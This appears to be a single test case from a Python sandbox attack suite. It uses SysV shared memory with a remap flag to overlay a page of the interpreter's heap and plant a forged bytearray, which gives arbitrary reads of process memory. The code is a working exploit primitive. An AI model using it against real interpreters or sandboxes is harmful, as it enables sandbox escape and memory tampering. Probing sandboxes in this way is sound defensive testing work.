# class: machine_code
# rule: native_code
# needs: module:sysv_ipc
# success: a page of the interpreter's memory is replaced by shared memory that we write to
# proof: word
import struct

import sysv_ipc
from attack import attempt

REMAP = 0o40000
HEADER = 24  # of a tuple
kept = []


@attempt
def replace():
    many = (None,) * 10_000
    page = (id(many) + 4095) & ~4095
    # An object as we like it: a bytearray whose bytes are all of the memory.
    text = b"some bytes at a known place"
    forged = struct.pack("<QQQQQQQ", 1 << 30, id(bytearray), (1 << 63) - 4096, 1 << 62, 1, 1, 0)
    segment = sysv_ipc.SharedMemory(None, sysv_ipc.IPC_CREX, size=4096)
    try:
        segment.write(struct.pack("<Q", id(forged) + 32) * 512)
        kept.extend((many, sysv_ipc.attach(segment.id, page, REMAP)))
    finally:
        segment.remove()
    memory = many[(page - id(many) - HEADER) // 8 + 5]
    at = id(text) + 32 - 1
    got = bytes(memory[at : at + len(text)]) == text
    segment.write(struct.pack("<Q", id(None)) * 512)
    return got
